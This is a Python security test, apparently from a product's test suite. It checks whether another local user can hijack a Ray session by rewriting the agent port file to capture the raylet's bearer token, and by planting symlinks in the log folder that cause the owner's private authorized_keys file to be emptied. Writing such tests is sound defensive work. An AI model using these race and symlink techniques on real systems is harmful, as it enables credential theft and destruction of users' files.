"""Attack 1: another user gets the token of a private Ray, or has a private file of its owner's emptied.

She puts something into Ray's folder that is believed by its name.
"""

import socket
import threading
import time
from collections.abc import Sequence
from contextlib import nullcontext, suppress
from pathlib import Path

from tests.security.attack import GotIn, NotTried, as_stranger, own, product
from tests.security.ray_run import rays_folders, training, wait_for_saves

_PATIENCE_S = 40
_MINE = "mine alone"
# Numbers of processes that are yet to start.
_NUM_LINKS = 10_000
_TOKEN = "the raylet sends her its token"


def attack(tree: Path) -> str:
    with product(tree) as its:
        common, private = its.home.parent / "tmp", its.home / "authorized_keys"
        private.write_text(_MINE, encoding="utf-8")
        private.chmod(0o600)
        own(private, its.user)
        with training(its) as process:
            did = as_stranger(lambda: _plant(common, private))
            # A raylet that was told her port may start nothing.
            with suppress(NotTried) if did else nullcontext():
                wait_for_saves(its, process)
            sessions = rays_folders(common)
        if private.read_text(encoding="utf-8") != _MINE:
            did.append("a private file of the owner's is emptied")
        if did:
            raise GotIn("; ".join(did))
        if not sessions:
            raise NotTried("there is no session of Ray in the common folder")
        return f"another user reaches nothing of {sessions[0].relative_to(common)} in {_PATIENCE_S} s"


def _plant(common: Path, private: Path) -> Sequence[str]:
    did: set[str] = set()
    with socket.create_server(("127.0.0.1", 0)) as hers:
        threading.Thread(target=_listen, args=(hers, did), daemon=True).start()
        port = hers.getsockname()[1]
        end_s, num_links = time.monotonic() + _PATIENCE_S, 0
        while time.monotonic() < end_s and _TOKEN not in did:
            for session in rays_folders(common):
                with suppress(OSError):
                    did.update(_replace_port(session, port))
                    num_links = _plant_links(session / "logs", private, num_links)
            time.sleep(0.001)
    return sorted(did) + [f"she plants {num_links} links among the logs"] * (num_links > 0)


def _replace_port(session: Path, port: int) -> list[str]:
    """The raylet waits for this file, to know whom it may tell its token."""
    replaced = []
    for path in session.glob("runtime_env_agent_port_*"):
        if path.read_text(encoding="utf-8") != str(port):
            new = session / "hers"
            new.write_text(str(port), encoding="utf-8")
            new.rename(path)
            replaced.append("she replaces the port of Ray's agent")
    return replaced


def _plant_links(logs: Path, private: Path, num_links: int) -> int:
    """A few at a time, so that the other file is not missed meanwhile."""
    if num_links >= _NUM_LINKS or not logs.is_dir():
        return num_links
    last = int(Path("/proc/loadavg").read_text(encoding="utf-8").split()[-1])
    for number in range(last, last + 500):
        with suppress(FileExistsError):
            (logs / f"longhaul-stacks-{number}.txt").symlink_to(private)
            num_links += 1
    return num_links


def _listen(hers: socket.socket, did: set[str]) -> None:
    with suppress(OSError):
        while True:
            connection, _ = hers.accept()
            with connection:
                connection.settimeout(5)
                if b"authorization: bearer" in connection.recv(65536).lower():
                    did.add(_TOKEN)
